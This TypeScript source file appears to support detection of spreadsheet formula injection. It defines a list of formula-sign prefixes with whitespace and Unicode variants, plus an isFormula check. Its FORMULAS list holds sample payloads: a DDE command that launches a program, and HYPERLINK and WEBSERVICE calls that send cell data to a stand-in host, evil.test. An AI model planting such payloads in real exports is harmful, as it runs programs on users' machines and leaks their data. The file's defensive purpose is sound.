/** What spreadsheets take for the sign of a formula, or for white space before one. */
export const FORMULA_PREFIXES = [
  '=',
  '+',
  '-',
  '@',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  ' =',
  '   +',
  '\t=',
  '\r=',
  '\n=',
  '\r\n-',
  '\u00A0=',
  '\u3000\uFF1D',
  '\uFEFF@',
  '\v=',
  '\u2028=',
  ';=',
  ';\t+',
  '";=',
  '"\r\n=',
  'text;=',
  'text\t@',
  'text\n-',
];

/** What a formula does: works out, opens a program, asks a server, reads a file. */
export const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test/?"&A1,"x")',
  'WEBSERVICE("http://evil.test")',
];

/** Where a spreadsheet ends a cell within a cell of ours: where it separates by semicolons or tabs, and by lines. */
const CELL_SEPARATORS = /[;\t\r\n]/;

/** The sign of a formula, as spreadsheets trim cells. A smiley `;-)` is none. */
const FORMULA_SIGN = /^\s*(?:[=+@\uFF1D\uFF0B\uFF20]|[-\uFF0D](?!\)))/;

/** Whether some spreadsheet takes a cell, or what is in it, for a formula. */
export function isFormula(cell: string): boolean {
  return FORMULA_SIGN.test(cell) || cell.split(CELL_SEPARATORS).some((part) => FORMULA_SIGN.test(part));
}
